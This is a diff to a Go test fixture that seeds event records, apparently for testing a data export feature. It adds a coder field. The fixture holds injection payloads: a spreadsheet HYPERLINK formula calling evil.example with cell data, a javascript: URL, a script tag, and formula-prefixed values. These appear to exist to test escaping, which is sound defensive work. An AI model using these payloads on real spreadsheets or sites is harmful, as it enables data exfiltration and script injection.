@@ -31,7 +31,7 @@ func seedEvents() []export.EventRecord {
 			Event:     "SUPPORT", Mode: "agreement", CAMEO: "057", Goldstein: 8, QuadClass: 1,
 			Text:   "Canada and the EU on Monday signed a defense and security pact",
 			Source: export.Source{ArticleID: 5, Title: "Canada, EU sign defense pact", Publication: "Taipei Times", Published: "2025-06-24", Start: 0, End: 62},
-			Status: model.StatusConfirmed,
+			Status: model.StatusConfirmed, Coder: "ana",
 		},
 		{
 			ID: 3, Date: "2025-06-01", DatePrecision: "month", DateText: "early this month", DateBasis: model.BasisRelative,
@@ -41,7 +41,7 @@ func seedEvents() []export.EventRecord {
 			Text: "New Zealand has suspended millions of dollars in budget funding to the Cook Islands",
 			Source: export.Source{ArticleID: 2, Title: "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", Publication: "@Times, \"Pacific\"\nedition",
 				Published: "2025-06-20", URL: "javascript:alert(1)", Start: 10, End: 95},
-			Status: model.StatusSuggested, Tags: []string{"-aid", "+pacific"}, Note: "decision date, not the announcement\r\n=1+1",
+			Status: model.StatusSuggested, Tags: []string{"-aid", "+pacific"}, Note: "decision date, not the announcement\r\n=1+1", Coder: "=bea",
 			Summary: "<script>alert('x')</script> aid <b>cut</b>",
 		},
 		{
